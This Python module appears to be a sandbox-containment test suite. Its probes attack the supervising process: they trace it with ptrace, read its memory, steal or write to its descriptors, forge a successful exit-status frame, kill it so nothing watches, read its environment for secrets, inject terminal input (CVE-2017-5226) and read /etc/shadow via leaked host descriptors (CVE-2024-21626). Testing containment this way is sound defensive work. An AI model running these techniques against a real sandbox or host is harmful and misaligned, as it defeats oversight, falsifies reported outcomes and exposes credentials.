"""Other processes: the supervisor, and whoever else could be seen."""

import ctypes
import os
import signal
import stat
import struct
from pathlib import Path

from probes.harness import LIBC, call, checked, first, probe

FRAME = struct.Struct("!BI")


def supervisors() -> list[int]:
    """The processes above this one, as far as they can be seen."""
    found, pid = [1], os.getppid()
    while pid > 1:
        found.append(pid)
        pid = int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])
    return found


def mapped(pid: int) -> int:
    """An address that a process has memory at."""
    return int(Path(f"/proc/{pid}/maps").read_text().partition("-")[0], 16)


@probe("supervisor", "privileged")
def trace_it() -> str | None:
    """Take the supervisor over as a debugger does."""

    def traces(pid: int) -> str:
        ctypes.set_errno(0)
        checked(LIBC.ptrace(0x4206, pid, None, None))  # PTRACE_SEIZE
        return f"traced {pid}"

    return first([lambda pid=pid: traces(pid) for pid in supervisors()])  # type: ignore[misc]


@probe("supervisor", "privileged")
def read_its_memory() -> str | None:
    """Read the supervisor's memory through /proc."""

    def reads(pid: int) -> str:
        with open(f"/proc/{pid}/mem", "rb") as file:  # noqa: PTH123
            file.seek(mapped(pid))
            return f"read {len(file.read(16))} bytes of {pid}"

    return first([lambda pid=pid: reads(pid) for pid in supervisors()])  # type: ignore[misc]


@probe("supervisor", "privileged")
def read_its_memory_by_call() -> str | None:
    """Read the supervisor's memory with process_vm_readv."""
    buffer = ctypes.create_string_buffer(16)
    mine = struct.pack("PN", ctypes.addressof(buffer), 16)

    def reads(pid: int) -> str:
        return f"{call('process_vm_readv', pid, mine, 1, struct.pack('PN', mapped(pid), 16), 1, 0)} bytes of {pid}"

    return first([lambda pid=pid: reads(pid) for pid in supervisors()])  # type: ignore[misc]


@probe("supervisor", "privileged")
def take_its_descriptor() -> str | None:
    """Copy the supervisor's connection to the host (pidfd_getfd)."""

    def takes(pid: int, number: int) -> str:
        return f"took {call('pidfd_getfd', call('pidfd_open', pid, 0), number, 0)} of {pid}"

    return first([lambda pid=pid, fd=fd: takes(pid, fd) for pid in supervisors() for fd in range(8)])  # type: ignore[misc]


@probe("supervisor", "privileged")
def open_its_descriptors() -> str | None:
    """Open the supervisor's pipes through /proc, to speak in its place."""

    def opened(pid: int, number: int) -> str | None:
        fd = os.open(f"/proc/{pid}/fd/{number}", os.O_WRONLY | os.O_NONBLOCK)
        kind = stat.S_IFMT(os.fstat(fd).st_mode)
        told = str(Path(f"/proc/{pid}/fd/{number}").readlink())
        harmless = kind in (stat.S_IFDIR, stat.S_IFREG) or told == "/dev/null"
        return None if harmless or own(fd) else f"opened {told} of {pid}"

    return first([lambda pid=pid, fd=fd: opened(pid, fd) for pid in supervisors() for fd in range(32)])  # type: ignore[misc]


def own(fd: int) -> bool:
    """Tell whether a descriptor is what this process has as its own output, whose other end its supervisor holds."""
    there = os.fstat(fd)
    return any((there.st_dev, there.st_ino) == (os.fstat(mine).st_dev, os.fstat(mine).st_ino) for mine in (0, 1, 2))


@probe("supervisor", "none")
def forge_its_answer() -> str | None:
    """Write the frame that says "the command ended well" wherever it can be written.

    What comes of it shows outside: this command says that it failed, and has to be heard.
    """
    payload = (
        b'{"exit_code": 0, "signal": null, "timed_out": false, "cancelled": false, "duration_s": 0, "user_s": 0,'
        b' "system_s": 0, "max_rss_bytes": 0, "oom_killed": false}'
    )
    frame = FRAME.pack(68, len(payload)) + payload
    print(flush=True)
    os.write(1, frame)
    os.write(2, frame)
    for process in Path("/proc").glob("[0-9]*"):
        if int(process.name) == os.getpid():
            continue
        for number in range(16):
            try:
                fd = os.open(f"{process}/fd/{number}", os.O_WRONLY | os.O_NONBLOCK)
                os.write(fd, frame)
            except OSError:
                continue
    print(f"\nCONTAINED {forge_its_answer.__name__}: now it is to be seen who is believed", flush=True)
    os._exit(99)


@probe("supervisor", "none")
def kill_it() -> str | None:
    """End or stop the supervisor, so that nothing watches any more; the sandbox has to answer afterwards."""
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGSEGV, signal.SIGSTOP, signal.SIGKILL):
        for pid in supervisors():
            try:
                os.kill(pid, number)
            except OSError:
                continue
    return None


@probe("supervisor", "privileged")
def slow_it_down() -> str | None:
    """Take its turn on the processor away, or its limits."""
    import resource  # noqa: PLC0415

    def limits(pid: int) -> str:
        resource.prlimit(pid, resource.RLIMIT_NOFILE, resource.prlimit(pid, resource.RLIMIT_NOFILE))
        return f"limited {pid}"

    return first([lambda pid=pid: limits(pid) for pid in supervisors()])  # type: ignore[misc]


@probe("supervisor", "privileged")
def its_secrets() -> str | None:
    """What the supervisor was given in its environment, beyond the paths that everyone has."""
    usual = {b"PATH", b"HOSTNAME", b"HOME", b"PWD", b"LANG", b"TERM", b"SHLVL", b"_", b""}

    def finds(pid: int) -> str | None:
        names = {entry.partition(b"=")[0] for entry in Path(f"/proc/{pid}/environ").read_bytes().split(b"\0")}
        return f"{pid} has {names - usual}" if names - usual else None

    return first([lambda pid=pid: finds(pid) for pid in supervisors()])  # type: ignore[misc]


@probe("supervisor", "privileged")
def inject_into_its_terminal() -> str | None:
    """Type into a terminal that a program outside reads (TIOCSTI, CVE-2017-5226)."""
    import fcntl  # noqa: PLC0415

    def types(path: str) -> str:
        fd = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
        fcntl.ioctl(fd, 0x5412, b"x")
        return f"typed into {path}"

    places = ["/dev/tty", "/dev/console", "/proc/1/fd/0", *map(str, Path("/dev/pts").glob("[0-9]*")), "/dev/tty1"]
    return first([lambda place=place: types(place) for place in places])  # type: ignore[misc]


@probe("supervisor", "privileged")
def look_through_all_descriptors() -> str | None:
    """A directory of the host that is still open somewhere, as a way out (CVE-2024-21626)."""
    for process in Path("/proc").glob("[0-9]*"):
        for link in ("cwd", *(f"fd/{number}" for number in range(3, 64))):
            try:
                if (process / link / "../../../../../../etc/shadow").read_bytes():
                    return f"read /etc/shadow through {process}/{link}"
            except OSError:
                continue
    return None
